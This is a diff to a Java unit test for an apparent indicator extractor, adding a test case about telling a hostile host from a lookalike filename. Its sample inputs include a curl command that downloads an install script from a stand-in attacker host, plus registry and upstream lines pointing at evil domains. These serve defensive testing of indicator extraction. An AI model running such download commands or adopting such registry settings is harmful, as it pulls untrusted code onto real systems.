@@ -233,6 +233,7 @@ class IndicatorExtractorTest {
     @ParameterizedTest
     @CsvSource(delimiter = '|', value = {
         "host: example.app                         | example.app",
+        "mirror: evil.co.in, not requirements.in   | evil.co.in",
         "curl -s get.evil.sh/install -o i.sh      | get.evil.sh",
         "upstream evil.sh:8443                     | evil.sh",
         "REGISTRY=${REGISTRY:-registry.evil.io}    | registry.evil.io",
